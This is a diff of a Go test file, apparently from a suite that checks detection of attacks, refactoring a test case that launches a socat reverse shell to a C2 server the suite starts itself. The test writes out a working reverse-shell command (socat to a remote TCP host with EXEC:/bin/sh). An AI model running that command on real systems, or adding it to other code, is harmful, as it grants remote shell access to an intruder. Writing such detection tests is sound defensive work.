@@ -93,11 +93,11 @@ var controlAttacks = []attack{
 	{"Netcat or socat executing a command", "Warning", "", "socat TCP4:HOST:PORT EXEC:/bin/sh, a reverse shell to a C2 in the suite's network namespace",
 		func(t *testing.T, ag *agent, m string) result {
 			socat, exe := hostTool(t, "socat")
-			var srv c2
+			srv := newC2()
 			port := serveRemote(t, 0, srv.handle(m))
 			target := fmt.Sprintf("TCP4:%s:%d", remoteHost(t), port)
 			pid := run(t, exec.Command(socat, "-T", "5", target, "EXEC:/bin/sh"))
-			if srv.replies.find(m+"-42") == "" {
+			if !srv.answered(m + "-42") {
 				t.Errorf("the C2 got no answer from the shell")
 			}
 			return result{match: target, pid: pid, name: "socat", exe: exe}
